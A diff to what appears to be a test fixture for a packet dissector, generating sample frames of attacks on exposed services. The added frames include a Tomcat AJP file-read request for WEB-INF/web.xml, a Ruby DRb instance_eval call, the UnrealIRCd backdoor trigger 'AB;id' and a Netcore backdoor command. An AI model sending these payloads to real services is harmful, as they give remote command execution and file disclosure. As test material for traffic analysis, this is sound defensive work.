@@ -1,13 +1,13 @@
 """Commands to exposed services: a compilation and a shell command for distcc, JDWP, ADB with two services, a Java
-object with a code URL over RMI, a class for ActiveMQ (OpenWire), and two requests to Tomcat over AJP, one of them for a
-file. Addresses are fictitious.
+object with a code URL over RMI, a class for ActiveMQ (OpenWire), two requests to Tomcat over AJP, one of them for a
+file, a method of a Ruby object (DRb), and the backdoors of UnrealIRCd and Netcore. Addresses are fictitious.
 """
 
 from __future__ import annotations
 
 import struct
 
-from pcaps.dissectors._frames import DESKTOP, PBX, Frames, conversation
+from pcaps.dissectors._frames import DESKTOP, PBX, Frames, conversation, udp
 
 CLIENT, SERVER = (DESKTOP, "10.20.30.66"), (PBX, "10.20.30.5")
 CLASS = b"org.springframework.context.support.ClassPathXmlApplicationContext"
@@ -61,3 +61,7 @@ def frames() -> Frames:
     include = b"javax.servlet.include."
     file = {include + b"request_uri": b"/", include + b"path_info": b"WEB-INF/web.xml", include + b"servlet_path": b"/"}
     yield from connection(8009, 49506, ajp_request(b"/shop", {}), ajp_request(b"/a.txt", file))
+    ruby = [b"\x04\x080", b'\x04\x08I"\x12instance_eval\x06:\x06ET', b"\x04\x08i\x06"]
+    yield from connection(8787, 49507, b"".join(struct.pack(">I", len(each)) + each for each in ruby))
+    yield from connection(6667, 49508, b"AB;id\n")
+    yield udp(*(end[0] for end in (CLIENT, SERVER)), CLIENT[1], SERVER[1], 49509, 53413, b"AA\0\0AAAA cd /tmp; ls\0")
